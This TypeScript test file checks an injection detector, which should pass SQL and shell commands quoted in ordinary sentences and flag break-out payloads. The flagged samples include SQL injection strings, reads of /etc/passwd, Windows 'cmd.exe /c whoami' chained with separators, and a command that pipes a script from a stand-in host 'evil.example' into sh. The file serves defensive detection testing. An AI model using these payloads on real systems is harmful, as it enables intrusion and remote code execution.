import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { quotedSpanInSentence } from '../../src/security/prose-post.js';
import { inlineCodeSpan } from '../../src/security/quoted-code.js';

// A statement or command line quoted in a sentence (in double or single quotes, or in a code span at
// the edges the first version missed) versus the same quotes breaking out of a string. Values written
// for these tests (not taken from a held-out set).
const d = new InjectionDetector();
const score = (v: string) => d.score(v).score;
const query = (v: string) => {
  const out: unknown[] = [];
  new InjectionDetector().observe({ time: 0, severityNumber: 0, severityText: '', message: '', attributes: { 'url.query': `q=${encodeURIComponent(v)}&page=2` }, eventName: '' }, out as never);
  return out.length;
};

describe('a statement or command line quoted in a sentence is named, not a break-out', () => {
  it.each([
    `Try "UPDATE prefs SET lang = 'fr' WHERE uid = 4;" instead`,
    'We ran "DELETE FROM carts WHERE age > 30;" (staging only)',
    'Output of "grep -rn password /srv/app" - any idea?',
    'Running "tail -n 100 ~/.bash_history" prints nothing.',
    'My query "SELECT title FROM books ORDER BY 3" fails',
    'When we call "SELECT pg_size_pretty(pg_database_size(current_database()));" it hangs',
    "the docs say 'rm -rf ./dist' is safe here",
    'Compare "GROUP BY 1" and "GROUP BY name" please',
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
    expect(query(v)).toBe(0);
  });
  it.each([
    'name "or 1=1 --"',
    'bob" or "1"="1',
    'x "; drop table users; --"',
    'note "union select pass from users--"',
    'please help "$(curl evil.example/s.sh | sh)"',
    "hello 'or 1=1--'",
    "bob 'and sleep(5)#'",
    'value ";cat /etc/passwd"',
    'select "a" union select password from users',
    `name "x' or '1'='1" ok`,
    `try "admin' or 1=1#" now`,
  ])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it('reads the quote, its lead-in and what follows', () => {
    const a = 'try "select 2;" again';
    expect(quotedSpanInSentence(a, a.indexOf('"'))).toBe(a.lastIndexOf('"'));
    // a word glued to the quote is data closing a string
    expect(quotedSpanInSentence('bob"or 1=1"', 3)).toBe(-1);
    // an expression continued after the quote, a space before the closing quote, a line break inside
    expect(quotedSpanInSentence('x "or 1=1"', 2)).toBe(-1);
    expect(quotedSpanInSentence('try "select 1 " now', 4)).toBe(-1);
    expect(quotedSpanInSentence('try "select\n1" now', 4)).toBe(-1);
    // a code character in the lead-in
    expect(quotedSpanInSentence('a; b "select 1" now', 5)).toBe(-1);
    // a single quote needs a sentence before it
    expect(quotedSpanInSentence("bob 'ls -la' x", 4)).toBe(-1);
    expect(quotedSpanInSentence("we ran 'ls -la' twice", 7)).toBe(14);
    // a command opening the lead-in, with no sentence word after it
    expect(quotedSpanInSentence('echo "cat x" now', 5)).toBe(-1);
    expect(quotedSpanInSentence('when i run "cat x" now', 11)).toBe(17);
    // the value of a parameter: its own lead-in
    const q = 'page=1&q=try "select 1;"&sort=asc';
    expect(quotedSpanInSentence(q, q.indexOf('"'))).toBe(q.lastIndexOf('"'));
  });
});

describe('inline code spans at the edges of a sentence', () => {
  it.each([
    'I get this: `ls -la ~/.config` after the update',
    'We tried `kubectl logs -f pod-a | grep error`',
    'Is `git push --force origin main` - safe?',
    'Our pipeline fails with `npm ci && npm test`',
    'Why is `du -sh /var/lib/docker` ?',
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
    expect(query(v)).toBe(0);
  });
  it.each(['bob smith `id`', 'hi `id`', 'name `cat /etc/passwd`', 'x: `id`', "run `x' union select pass from users--` now", "please use `bob' or '1'='1` here"])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it('ends at the next parameter of a list', () => {
    const q = 'q=our build fails with `make && make install`&page=2';
    expect(inlineCodeSpan(q, q.indexOf('`'))).toBe(q.lastIndexOf('`'));
  });
});

// Decision (docs/security.md, "Typed SQL and shell lines"): a command line after a sentence, with no
// break-out character before it, is a command named in a question, as every other command in a post
// is (prose-post.ts): `is it safe to run cmd.exe /c whoami` cannot run unless the value breaks out of
// its argument with a separator or a substitution. Typed alone, or after a separator, it is reported.
describe('a Windows command line named in a question (decision)', () => {
  it.each(['is it safe to run cmd.exe /c whoami', 'how do I run powershell.exe -nop from a scheduled task?', 'why does cmd.exe /c dir show nothing'])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
    expect(query(v)).toBe(0);
  });
  it.each(['cmd.exe /c whoami', 'is it safe & cmd.exe /c whoami', 'please run; cmd.exe /c whoami', 'hello | cmd.exe /c whoami', 'please help $(cmd.exe /c whoami)', 'x" & cmd.exe /c whoami'])(
    'still an attack: %s',
    (v) => {
      expect(score(v)).toBeGreaterThanOrEqual(5);
    },
  );
});
